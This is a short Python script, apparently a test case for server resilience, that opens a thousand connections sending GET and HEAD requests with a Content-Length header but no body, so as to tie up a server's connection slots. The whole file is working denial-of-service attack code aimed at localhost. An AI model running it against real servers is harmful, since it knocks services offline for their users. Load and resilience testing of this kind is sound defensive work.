"""Announce bodies that never arrive on a thousand connections, without a key.

Their methods have no body, so a server has nothing to wait for. One that takes a slot before the body has arrived has
none left for others: 60 kB lock it for its body timeout.
"""

from attacker import Attacker, run

TARGETS = (b"GET /", b"GET /healthz", b"GET /docs", b"HEAD /page/app.js")


async def attack(attacker: Attacker) -> None:
    async def client(number: int) -> None:
        target = TARGETS[number % len(TARGETS)]
        headers = b"Host: localhost\r\nContent-Type: application/json\r\nContent-Length: 10\r\n\r\n"
        await attacker.occupy(target + b" HTTP/1.1\r\n" + headers)

    await attacker.gather(1_000, client)


if __name__ == "__main__":
    run(attack)
